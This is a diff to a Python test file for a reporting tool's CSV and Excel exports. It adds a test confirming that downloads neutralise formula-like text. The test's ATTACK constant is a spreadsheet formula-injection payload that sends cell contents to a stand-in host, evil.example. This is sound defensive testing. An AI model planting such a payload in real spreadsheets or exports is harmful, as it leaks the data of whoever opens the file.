@@ -3,6 +3,7 @@ numbers, formula-like text neutralised), escaping in HTML and on the console."""
 
 from __future__ import annotations
 
+import io
 import re
 import zipfile
 
@@ -17,7 +18,7 @@ from yearofcare.reports import Section, Sheet, all_sections
 from yearofcare.reports import blocks as rb
 from yearofcare.reports.page import Page, render_block, write_page
 from yearofcare.reports.render import Reader, render_section, what, write_report
-from yearofcare.reports.workbook import write_csv, write_workbook
+from yearofcare.reports.workbook import workbook_bytes, write_csv, write_workbook
 from yearofcare.store import Store
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -151,3 +152,23 @@ def test_cli_report_and_literal_console_output(analysed_only, tmp_path, capsys):
     code = cli.main(["--data-dir", str(tmp_path / "d"), "analyse", "--by", "[bold]x[/bold]"])
     err = capsys.readouterr().err.replace("\n", "")
     assert code == 2 and "'[bold]x[/bold]'" in err
+
+
+def test_web_downloads_use_the_one_writer():
+    from yearofcare.web import export
+    from yearofcare.web.registry import Column, TableView
+
+    frame = pd.DataFrame({"practice_name": [ATTACK, "Ash"], "people": [None, 120.0]})
+    frame["suppressed"] = [True, False]
+    t = TableView(
+        "list",
+        "Practices",
+        [Column("practice_name", "Practice"), Column("people", "People", "count")],
+        frame,
+    )
+    csv = export.to_csv(t).decode("utf-8-sig").splitlines()
+    assert csv[1].startswith("\"'=HYPERLINK(") and csv[1].endswith(",*,True")
+    sheet = Sheet("list", frame, labels={"practice_name": "Practice"})
+    with zipfile.ZipFile(io.BytesIO(workbook_bytes([sheet], [("Page", "x")]))) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet2.xml").decode()
+        assert "<t>Practice</t>" in z.read("xl/sharedStrings.xml").decode()
